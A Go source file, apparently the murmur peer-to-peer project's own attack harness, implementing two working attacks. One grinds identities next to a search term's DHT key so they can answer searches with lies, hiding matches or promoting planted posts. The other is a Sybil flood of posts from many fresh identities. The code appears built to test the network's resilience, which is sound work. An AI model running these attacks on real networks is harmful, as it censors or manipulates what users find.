package attack

import (
	"context"
	"errors"
	"fmt"
	"math"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	kb "github.com/libp2p/go-libp2p-kbucket"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/peer"

	"github.com/murmur-p2p/murmur/index"
	"github.com/murmur-p2p/murmur/keyspace"
	"github.com/murmur-p2p/murmur/p2p"
	"github.com/murmur-p2p/murmur/post"
	"github.com/murmur-p2p/murmur/puzzle"
	"github.com/murmur-p2p/murmur/query/netsearch"
)

// Modes of grind-owners: what its owners answer a search for the term with.
const (
	// ModeHide answers with no match at all.
	ModeHide = "hide"
	// ModePromote answers with the attacker's own posts first, scored
	// above everything else.
	ModePromote = "promote"
)

// promotedPosts is how many posts of its own grind-owners writes in
// promote mode.
const promotedPosts = 5

// grindOwners grinds identities closer to the term's key than enough of
// the owners the network has now to take Identities of their places, each
// solving the network's identity puzzle, joins with them as ordinary peers
// (real store, sync and repair) and answers every search with a lie:
// nothing, or its own posts first.
func grindOwners(ctx context.Context, e *env) error {
	term, err := e.pickTerm(ctx)
	if err != nil {
		return err
	}
	key := keyspace.TermKey(term)
	target := kb.ConvertKey(key)
	owners, err := e.svc.Owners(ctx, key)
	if err != nil {
		return fmt.Errorf("owners of %s: %w", key, err)
	}
	// To hold k of the owners' places, each identity must be closer to the
	// key than the owner k-th from the farthest: the farthest owner for one
	// place, the closest for all of them. Each bit more doubles the work.
	var cpls []int
	for _, o := range owners {
		if o != e.svc.ID() {
			cpls = append(cpls, kb.CommonPrefixLen(kb.ConvertPeerID(o), target))
		}
	}
	slices.SortFunc(cpls, func(a, b int) int { return b - a })
	beatCpl := 0
	if len(cpls) > 0 {
		beatCpl = cpls[max(len(cpls)-e.cfg.Identities, 0)]
	}
	e.log.Info("grinding identities next to the term's key", "term", term, "key", key, "identities", e.cfg.Identities,
		"prefix_bits", beatCpl+1, "difficulty", e.cfg.IDDifficulty)
	var promoted map[string]bool
	if e.cfg.Mode == ModePromote {
		promoted = map[string]bool{}
	}
	for range e.cfg.Identities {
		began := time.Now()
		k, tries, err := grindNear(ctx, target, beatCpl, e.cfg.IDDifficulty)
		e.rep.Add("keys generated", int(tries))
		e.log.Info("ground an identity", "tries", tries, "expected", puzzle.Expected(e.cfg.IDDifficulty)*math.Exp2(float64(beatCpl+1)),
			"took", time.Since(began).Round(time.Millisecond))
		if err != nil {
			return err
		}
		liar, err := e.startLiar(ctx, k, promoted)
		if err != nil {
			return err
		}
		defer liar.close()
		e.rep.Add("identities joined next to the term's key", 1)
		if promoted != nil {
			if err := liar.promote(ctx, term, promoted); err != nil {
				return err
			}
		}
	}
	if e.cfg.Ready != nil {
		e.cfg.Ready()
	}
	<-ctx.Done()
	return ctx.Err()
}

// pickTerm is the configured term, or a word of a post the network holds
// that is neither hot nor rare.
func (e *env) pickTerm(ctx context.Context) (string, error) {
	if e.cfg.Term != "" {
		return e.cfg.Term, nil
	}
	counts := map[string]int{}
	for _, found := range e.findPosts(ctx, 1000) {
		seen := map[string]bool{}
		for _, t := range index.Terms(found.Text) {
			if !seen[t] && !keyspace.IsHot(t) && len(t) > 3 {
				seen[t] = true
				counts[t]++
			}
		}
	}
	best := ""
	for t, n := range counts {
		if n > counts[best] || n == counts[best] && t < best {
			best = t
		}
	}
	if best == "" {
		return "", errors.New("no post to pick a term from: give --term")
	}
	return best, nil
}

// grindNear generates keys on every core until one's ID solves the puzzle
// of difficulty d and shares more than minCpl leading bits with target;
// tries is how many it generated.
func grindNear(ctx context.Context, target kb.ID, minCpl, d int) (key crypto.PrivKey, tries uint64, err error) {
	expected := puzzle.Expected(d) * math.Exp2(float64(minCpl+1))
	key, tries, err = puzzle.GrindUntil(ctx, func(id peer.ID) bool {
		return kb.CommonPrefixLen(kb.ConvertPeerID(id), target) > minCpl && puzzle.Solves(id, d)
	}, expected, 0, time.Second, nil)
	if err != nil {
		return nil, tries, fmt.Errorf("grind an identity sharing %d bits with the key after %d tries: %w", minCpl+1, tries, err)
	}
	return key, tries, nil
}

// liar is one ground identity: a real peer whose searches lie.
type liar struct {
	e   *env
	svc *p2p.Service
	ix  *index.Index
	key crypto.PrivKey
	dir string
}

func (e *env) startLiar(ctx context.Context, key crypto.PrivKey, promoted map[string]bool) (*liar, error) {
	boot, _ := p2p.ParseAddrs(e.cfg.Bootstrap)
	svc, ix, dir, err := startPeer(e.cfg, boot, key, func(ix *index.Index) p2p.Searcher {
		return func(ctx context.Context, req *netsearch.Request) (*netsearch.Response, error) {
			resp, err := netsearch.Answer(ctx, ix, req)
			if err != nil || resp.Refused != "" {
				return resp, err
			}
			e.rep.Add("searches answered with a lie", 1)
			if promoted == nil {
				return &netsearch.Response{Hits: nil, Total: 0, Count: 0}, nil
			}
			// Own posts first, scored far above the rest; the rest after.
			own, rest := resp.Hits[:0:0], resp.Hits[:0:0]
			for _, h := range resp.Hits {
				if promoted[h.Sort[1]] {
					own = append(own, h)
				} else {
					rest = append(rest, h)
				}
			}
			for i := range own {
				own[i].Score = 1e6 - float64(i)
				own[i].Sort = []string{strconv.FormatFloat(own[i].Score, 'g', -1, 64), own[i].Sort[1]}
			}
			resp.Hits = append(own, rest...)
			return resp, nil
		}
	})
	if err != nil {
		return nil, fmt.Errorf("join with a ground identity: %w", err)
	}
	l := &liar{e: e, svc: svc, ix: ix, key: key, dir: dir}
	deadline := time.Now().Add(30 * time.Second)
	for !l.svc.Joined() || l.svc.RoutingTableSize() == 0 {
		if time.Now().After(deadline) {
			l.close()
			return nil, fmt.Errorf("ground identity %s: no peer let it in within 30 s (does it solve the network's identity puzzle?)", l.svc.ID())
		}
		if err := pause(ctx, 50*time.Millisecond); err != nil {
			l.close()
			return nil, err
		}
	}
	e.log.Info("a ground identity joined", "peer", l.svc.ID(), "bits", puzzle.Bits(l.svc.ID()))
	return l, nil
}

// promote writes posts of the ground identity about term and places them
// at their owners, so that they are real matches the lie can put first.
func (l *liar) promote(ctx context.Context, term string, promoted map[string]bool) error {
	var posts []*post.Post
	for i := range promotedPosts {
		p, err := post.Sign(l.key, post.Draft{Text: fmt.Sprintf("%s %s: read this first (%d)", term, strings.ToUpper(term), i)}, time.Now())
		if err != nil {
			return err
		}
		posts = append(posts, p)
		promoted[p.ID] = true
	}
	if _, err := l.ix.Put(ctx, posts...); err != nil {
		return err
	}
	placed := 0
	for _, err := range l.svc.Place(ctx, posts) {
		if err == nil {
			placed++
		}
	}
	l.e.rep.Add("own posts placed to promote", placed)
	return nil
}

func (l *liar) close() {
	l.svc.Close()
	l.ix.Close()
	os.RemoveAll(l.dir)
}

// sybilFlood writes posts as fast as it can, each signed by the next of
// many fresh identities (Identities, default 200), each with the network's
// proof of work (PostDifficulty): an owner asks it of an author it holds
// no post of, and a fresh identity's next post goes mostly to owners that
// have not seen it, so paying once per identity is not enough.
func sybilFlood(ctx context.Context, e *env) error {
	keys, err := freshKeys(e.cfg.Identities)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		posts := make([]*post.Post, 0, len(keys))
		start := time.Now()
		for _, k := range keys {
			p, err := post.SignWork(ctx, k, post.Draft{Text: randomText(6)}, time.Now(), e.cfg.PostDifficulty)
			if err != nil {
				return err
			}
			posts = append(posts, p)
		}
		e.rep.Add("milliseconds spent signing and proving work", int(time.Since(start).Milliseconds()))
		if err := e.storeAndPlace(ctx, posts); err != nil {
			return err
		}
	}
	return ctx.Err()
}
